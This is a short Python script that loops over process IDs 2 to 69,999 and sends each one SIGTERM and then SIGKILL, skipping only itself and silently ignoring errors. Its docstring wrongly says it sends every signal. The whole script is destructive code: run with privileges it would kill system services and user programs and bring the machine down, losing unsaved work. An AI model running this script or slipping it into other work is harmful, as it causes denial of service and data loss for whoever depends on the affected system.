"""Sends every signal to every process."""

import os
import signal

for pid in range(2, 70_000):
    if pid != os.getpid():
        for number in (signal.SIGTERM, signal.SIGKILL):
            try:
                os.kill(pid, number)
            except OSError:
                pass
